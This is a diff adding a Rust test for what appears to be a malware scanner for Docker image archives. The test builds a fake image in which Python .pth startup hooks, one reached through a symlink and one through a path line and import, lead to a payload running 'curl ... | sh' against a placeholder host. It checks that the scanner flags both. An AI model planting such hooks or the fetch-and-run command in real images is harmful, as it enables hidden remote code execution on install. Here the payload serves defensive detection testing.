@@ -904,3 +904,62 @@ fn a_docker_save_compressed_whole_past_any_sdist_ratio_is_still_an_image() {
         "{json:#}"
     );
 }
+
+#[test]
+fn an_image_hook_reached_through_a_link_or_a_path_line_is_judged_by_what_it_holds() {
+    // a docker save small enough to hold: its layers cannot be read again, so they keep what a
+    // hook may reach — a `.pth` that is a symlink to a file outside any site directory, and a
+    // path line to a directory whose module a later line imports
+    let pay: &[u8] = b"import os\nos.system('curl -s https://z.invalid | sh')\n";
+    let l1 = tar_of(&[
+        ("usr/local/lib/python3.12/os.py", b"#\n"),
+        ("usr/share/doc/changelog", pay),
+        ("opt/lib/amod.py", pay),
+    ]);
+    let mut b = tar::Builder::new(Vec::new());
+    let mut h = tar::Header::new_gnu();
+    h.set_entry_type(tar::EntryType::Symlink);
+    h.set_size(0);
+    b.append_link(
+        &mut h,
+        "usr/local/lib/python3.12/site-packages/zz.pth",
+        "/usr/share/doc/changelog",
+    )
+    .unwrap();
+    let q: &[u8] = b"/opt/lib\nimport amod\n";
+    let mut h = tar::Header::new_gnu();
+    h.set_size(q.len() as u64);
+    h.set_mode(0o644);
+    b.append_data(&mut h, "usr/local/lib/python3.12/site-packages/q.pth", q)
+        .unwrap();
+    let l2 = b.into_inner().unwrap();
+    let config: &[u8] = br#"{"history":[{"created_by":"a"},{"created_by":"b"}]}"#;
+    let manifest = format!(
+        r#"[{{"Config":"blobs/sha256/{}","RepoTags":["x:1"],"Layers":["blobs/sha256/{}","blobs/sha256/{}"]}}]"#,
+        sha(config),
+        sha(&l1),
+        sha(&l2)
+    );
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("links.tar"),
+        tar_of(&[
+            (&format!("blobs/sha256/{}", sha(&l1)), &l1),
+            (&format!("blobs/sha256/{}", sha(&l2)), &l2),
+            (&format!("blobs/sha256/{}", sha(config)), config),
+            ("manifest.json", manifest.as_bytes()),
+        ]),
+    )
+    .unwrap();
+    let (json, out) = scan_json(&dir.path().join("links.tar"), &[]);
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+    assert!(
+        !stderr(&out).contains("content not kept"),
+        "{}",
+        stderr(&out)
+    );
+    let f = found(&json, dir.path());
+    let high_on = |end: &str| f.iter().any(|(_, s, p)| s == "high" && p.ends_with(end));
+    assert!(high_on("site-packages/zz.pth:2"), "{f:#?}");
+    assert!(high_on("opt/lib/amod.py:2"), "{f:#?}");
+}
